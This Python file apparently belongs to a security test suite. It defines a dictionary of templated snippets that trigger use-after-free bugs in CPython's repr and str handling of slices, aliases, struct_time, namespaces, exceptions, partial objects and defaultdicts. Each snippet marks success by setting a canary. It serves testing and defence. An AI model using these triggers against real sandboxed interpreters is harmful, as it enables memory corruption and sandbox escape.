"""C shows what it only borrows from a list, a namespace or an exception, whose text is a hook that lets go of it.

A slice, an alias, a struct_time or a timezone shows several fields and holds none of them: after the first hook, the
second is memory that another object has taken, with a class of the cell's choice.
"""

import sys

ADVISORY = ""
GUARANTEE = "no-reflection"
_FREED = """
{setup}
ended = []
def opened():
    try:
        yield
    finally:
        ended.append(1)
class Y:
    def __init__(self):
        self.held = opened()
        next(self.held)
class X:
    def __repr__(self):
        global LOOT
        {let_go}
        if ended:
            LOOT = CANARY
        raise ValueError
    __str__ = __repr__
{made}
try:
    {show}
except ValueError:
    pass
"""


def _listed(shown: str, setup: str = "") -> str:
    return _FREED.format(setup=setup, let_go="outer.clear()", made=f"outer = [{shown}]", show="repr(outer)")


_ERROR = "class E({base}):\n    pass\ne = E()\n"
ATTACKS = {
    "slice": _listed("slice(X(), Y())"),
    "slice_by_syntax": _listed("Z()[X():Y()]", "class Z:\n    def __getitem__(self, key):\n        return key"),
    "alias": _listed("list[[X()], Y()]"),
    "struct_time": _listed("time.struct_time([X(), Y(), 1, 2, 3, 4, 5, 6, 7])", "import time"),
    "list_of_a_derived_class": _listed("slice(X(), Y())", "class L(list):\n    pass").replace("outer = [slice(X(), Y())]", "outer = L([slice(X(), Y())])"),
    "in_a_format": _listed("slice(X(), Y())").replace("repr(outer)", "'%s' % (outer,)"),
    "by_its_name": _listed("slice(X(), Y())").replace("repr(outer)", "list.__repr__(outer)"),
    "namespace": _FREED.format(
        setup="from types import SimpleNamespace", let_go="n.a = 1", made="n = SimpleNamespace(a=slice(X(), Y()))", show="repr(n)"
    ),
    "arguments_of_an_exception": _FREED.format(
        setup="", let_go="e.args = ()", made=_ERROR.format(base="Exception") + "e.args = (slice(X(), Y()),)", show="repr(e)"
    ),
    "text_of_an_exception": _FREED.format(
        setup="", let_go="e.args = ()", made=_ERROR.format(base="NameError") + "e.args = (slice(X(), Y()),)", show="str(e)"
    ),
    "text_of_a_key_error": _FREED.format(
        setup="", let_go="e.args = ()", made=_ERROR.format(base="KeyError") + "e.args = (slice(X(), Y()),)", show="str(e)"
    ),
    "text_of_an_os_error": _FREED.format(
        setup="", let_go="e.errno = e.strerror = None", made=_ERROR.format(base="OSError") + "e.errno = X()\ne.strerror = Y()\ne.filename = ''", show="str(e)"
    ),
    "text_of_a_syntax_error": _FREED.format(
        setup="", let_go="e.msg = None", made=_ERROR.format(base="SyntaxError") + "e.msg = slice(X(), Y())\ne.lineno = 1", show="str(e)"
    ),
    "keywords_of_a_partial": _FREED.format(
        setup="from functools import partial", let_go="p.keywords.clear()", made="p = partial(len)\np.keywords[list[X(), Y()]] = 1", show="repr(p)"
    ),
    "factory_of_a_defaultdict": _FREED.format(
        setup="from functools import partial\nfrom collections import defaultdict\nclass D(defaultdict):\n    pass",
        let_go="d.default_factory = None",
        made="d = D()\nd.default_factory = partial(repr, slice(X(), Y()))",
        show="d[1]",
    ),
}  # fmt: skip
if sys.version_info >= (3, 12):
    ATTACKS["list_of_an_alias"] = _FREED.format(
        setup="", let_go="inner.clear()", made="inner = [slice(X(), Y())]", show="repr(list[inner, 1])"
    )
